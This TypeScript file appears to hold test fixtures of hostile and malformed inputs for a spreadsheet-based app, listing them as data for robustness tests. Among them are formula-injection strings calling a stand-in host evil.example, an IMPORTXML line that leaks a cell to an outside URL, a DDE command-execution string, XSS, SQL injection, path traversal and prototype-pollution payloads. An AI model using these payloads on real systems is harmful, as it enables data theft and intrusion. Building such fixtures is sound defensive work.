/**
 * Hostile and awkward input, as people and other systems really send it: formula and CSV
 * injection, markup, bidirectional and invisible characters, emoji, huge cells, numbers as text,
 * wrong dates, blank and whitespace-only values.
 */
export const HOSTILE_TEXT: readonly string[] = [
  // Formula / CSV injection
  '=HYPERLINK("http://evil.example","click")',
  '=1+1',
  '+1-2',
  '-3',
  '@SUM(A1:A9)',
  "'quoted",
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  ' =IMPORTXML(CONCAT("http://x/?",A1),"//a")',
  '=IMAGE("http://evil.example/p.png")',
  '＝1+1',
  // Markup in names
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><b>bold</b>',
  '&lt;escaped&gt; &amp;',
  '{{constructor.constructor("x")()}}',
  // Bidirectional, invisible and unusual characters
  '\u202Eevil.exe\u202C',
  'مرحبا بالعالم',
  'שלום',
  'Ac\u200Bme',
  '\uFEFFAcme',
  'A\u200D\u200Cb',
  'a\u0000b',
  'line1\nline2\r\nline3',
  '\u00A0padded\u00A0',
  'ＡＣＭＥ（全角）',
  'Ω≈ç√∫',
  'ﾃｽﾄ',
  // Emoji
  '😀🚀 Acme 👨‍👩‍👧‍👦',
  '🏳️‍🌈',
  '\uD83D',
  // Numbers, booleans and dates as text
  '00123',
  '1e10',
  '1,234.50',
  '0x1F',
  'NaN',
  'Infinity',
  '-0',
  'TRUE',
  'false',
  '2024-01-01',
  '12:30',
  '45%',
  // SQL and path noise
  "'; DROP TABLE customers;--",
  '../../etc/passwd',
  'C:\\Windows\\system32',
];

/** Values that are not text at all, or blank. */
export const BLANKS: readonly unknown[] = ['', ' ', '\t\n', '\u3000', '\u00A0'];

export const WRONG_DATES: readonly string[] = [
  '2024-13-01',
  '31/12/2024',
  '2024/2/30',
  'yesterday',
  '2024-02-30',
  '20240101',
  '1899-12-30T25:00',
  '2024-1-1 25:61',
];
export const WRONG_NUMBERS: readonly unknown[] = [
  'abc',
  '1.2.3',
  '¥-5',
  -1,
  Number.NaN,
  Number.POSITIVE_INFINITY,
  1e20,
  '１２３４５６７８９０１２３４５',
  true,
  [1],
  { n: 1 },
];

/** 50,000 characters: Sheets' cell limit; one more is over it. */
export const AT_LIMIT = 'x'.repeat(50_000);
export const OVER_LIMIT = 'y'.repeat(50_001);

/** Arguments of the wrong type for any entry point. */
export const WRONG_ARGS: readonly unknown[][] = [
  [],
  [null],
  [undefined],
  [42],
  [-1],
  [Number.NaN],
  [true],
  ['x'.repeat(100_000)],
  [{}],
  [[]],
  [['customers']],
  [{ table: 'customers' }],
  ['customers', 'name=x'],
  ['customers', 7, 7],
  ['nope', {}],
  ['__proto__', {}],
  ['constructor'],
  ['customers', { name: 'x', evil: 1 }],
  ['customers', { __proto__: { admin: true } }],
  ['customers', 'C20240101001', { mode: 'everything' }],
  [{ range: 'A1', user: 'admin@example.com' }],
  [{ triggerUid: 'fake', force: 'yes' }],
];
